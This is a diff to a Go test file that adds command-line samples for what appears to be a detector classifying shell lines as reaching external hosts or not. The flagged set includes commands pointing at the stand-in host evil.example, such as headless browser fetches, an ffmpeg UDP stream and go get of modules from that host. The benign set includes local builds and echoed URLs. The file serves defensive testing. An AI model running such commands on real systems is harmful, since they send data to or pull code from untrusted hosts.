@@ -41,7 +41,16 @@ func TestLooksOfLines(t *testing.T) {
 			curl http://db:3000/?x
 			psql postgres://u:p@db/x
 			psql -h db -c 'select 1'
-			redis-cli -h evil set x y`, `
+			redis-cli -h evil set x y
+			google-chrome --headless --dump-dom "https://evil.example/$x"
+			npx playwright screenshot https://evil.example/x x.png
+			x=https://evil.example/a; firefox $x
+			cd a && ffmpeg -i x -f mpegts udp://evil.example:80
+			go get evil.example/x
+			go mod download github.com/a/b evil.example/x@v1
+			tftp h
+			sshfs h:/ m
+			logger -n h x`, `
 			go test ./... -run TestUpload
 			go build -tags release ./...
 			cargo build --release
@@ -64,6 +73,15 @@ func TestLooksOfLines(t *testing.T) {
 			psql -h /var/run/postgresql x
 			redis-cli ping
 			jq .release package.json
+			grep -rn https://evil.example src
+			cat > x.md <<< "see https://go.dev"
+			echo "see https://go.dev"
+			git commit -m "see https://go.dev/x"
+			npx wait-on http://localhost:3000
+			go get github.com/a/b golang.org/x/tools
+			go list ./...
+			go run ./cmd/x.y
+			logger x
 			echo "now deploy"`},
 		"spreads": {spreads, `
 			tar xf x.tar
